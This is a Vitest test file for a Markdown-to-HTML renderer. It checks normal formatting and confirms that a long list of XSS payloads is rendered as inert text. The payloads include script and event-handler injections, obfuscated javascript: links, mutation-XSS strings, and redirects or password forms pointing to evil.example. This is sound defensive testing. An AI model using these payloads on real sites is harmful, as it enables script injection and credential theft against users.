import { renderToStaticMarkup } from "react-dom/server";
import { describe, expect, test } from "vitest";
import { RichTextView } from "~/app/components/rich-text";
import { mostBodyBytes } from "~/app/domain/resources/resource";
import { readMarkdown } from "~/app/http/markdown.server";

const shown = (source: string) => renderToStaticMarkup(<RichTextView text={readMarkdown(source)} />);

describe("Markdown is shown", () => {
  test.each([
    ["# Big\n\n### Small", "<h2>Big</h2><h3>Small</h3>"],
    ["One\ntwo  \nthree", "<p>One\ntwo<br/>three</p>"],
    ["**bold** *soft* `code`", "<p><strong>bold</strong> <em>soft</em> <code>code</code></p>"],
    ["- a\n  1. b\n- c", "<ul><li><p>a</p><ol><li><p>b</p></li></ol></li><li><p>c</p></li></ul>"],
    ["> said", "<blockquote><p>said</p></blockquote>"],
    ["```\n<b>\n```", "<pre><code>&lt;b&gt;\n</code></pre>"],
    ["---", "<hr/>"],
    [
      "[us](https://example.org/a?b=1&c=2)",
      '<p><a href="https://example.org/a?b=1&amp;c=2" rel="noreferrer">us</a></p>',
    ],
    ["<a@example.org>", '<p><a href="mailto:a@example.org" rel="noreferrer">a@example.org</a></p>'],
    ["[call](tel:+12135550123)", '<p><a href="tel:+12135550123" rel="noreferrer">call</a></p>'],
  ])("%j", (source, html) => expect(shown(source)).toBe(html));
});

/** What attackers write into Markdown: each has to come out as words. */
const attacks = [
  "<script>alert(1)</script>",
  "<SCRIPT SRC=//evil.example></SCRIPT>",
  "<img src=x onerror=alert(1)>",
  "<svg/onload=alert(1)>",
  "<svg><script>alert(1)</script></svg>",
  '<a href="javascript:alert(1)">x</a>',
  '<p style="background:url(javascript:alert(1))">x</p>',
  "<style>@import 'https://evil.example/x.css'</style>",
  "<iframe src=https://evil.example></iframe>",
  '<form action="https://evil.example"><input name=password></form>',
  "<base href=https://evil.example>",
  "<meta http-equiv=refresh content=0;url=https://evil.example>",
  "<!--><img src=x onerror=alert(1)>-->",
  "<![CDATA[<script>alert(1)</script>]]>",
  "<details open ontoggle=alert(1)>",
  "[x](javascript:alert(1))",
  "[x](JaVaScRiPt:alert(1))",
  "[x](java&#115;cript:alert(1))",
  "[x](javascript&colon;alert(1))",
  "[x](java\tscript:alert(1))",
  "[x](<java\nscript:alert(1)>)",
  "[x](&#x6A;avascript:alert(1))",
  "[x](%6Aavascript:alert(1))",
  "[x](\u0001javascript:alert(1))",
  "[x](vbscript:msgbox(1))",
  "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
  "[x](file:///etc/passwd)",
  "[x](blob:https://example.org/1)",
  "[x](//evil.example)",
  "<javascript:alert(1)>",
  "[x]: javascript:alert(1)\n\n[x]",
  '[x](https://example.org "onmouseover=alert(1)")',
  '[x](https://example.org"onmouseover="alert(1))',
  "![x](javascript:alert(1))",
  '![x](https://evil.example/pixel.png "x")',
  '![x"onerror="alert(1)](x)',
  "```html onload=alert(1)\n<script>alert(1)</script>\n```",
  "`<script>alert(1)</script>`",
  "# <img src=x onerror=alert(1)>",
  "- <script>alert(1)</script>",
  "> <script>alert(1)</script>",
  "**<b onclick=alert(1)>x**",
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  "&#60;script&#62;alert(1)&#60;/script&#62;",
  "\\<script>alert(1)</script>",
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
  "<a href='x' ONCLICK=alert(1)>",
  '<x style="behavior:url(x)">',
];

const ours = new Set([
  "p",
  "h2",
  "h3",
  "ul",
  "ol",
  "li",
  "a",
  "strong",
  "em",
  "code",
  "pre",
  "blockquote",
  "hr",
  "br",
]);

describe("what an attacker writes", () => {
  test.each(attacks)("%j comes out as words", (source) => {
    const html = shown(source);
    for (const [, name = "", attributes = ""] of html.matchAll(/<\/?([a-z0-9]+)((?:\s[^>]*)?)\/?>/gi)) {
      expect(ours).toContain(name);
      expect(attributes.replace(/\/$/, "")).toMatch(
        /^(?: href="(?:https?:\/\/|mailto:|tel:)[^"<>\s]*" rel="noreferrer")?$/i,
      );
    }
    expect(html.replace(/<\/?(?:[a-z0-9]+)(?:\s[^>]*)?\/?>/gi, "")).not.toMatch(/[<>]/);
    expect(html).not.toMatch(/href="(?!https?:\/\/|mailto:|tel:)/i);
  });

  test.each(["[", "![", "- ", "> ", "*", "a*", "`", "<", "\\", "* a\n", "[a][", "**a ", "_", "((", "1. "])(
    "a page of nothing but %j is read in bounded time and depth",
    (sign) => {
      const source = sign.repeat(mostBodyBytes / sign.length);
      const begun = performance.now();
      expect(() => shown(source)).not.toThrow();
      // On an idle machine it is below one second; minutes or a stack that overflows would be the fault.
      expect(performance.now() - begun).toBeLessThan(20_000);
    },
  );
});
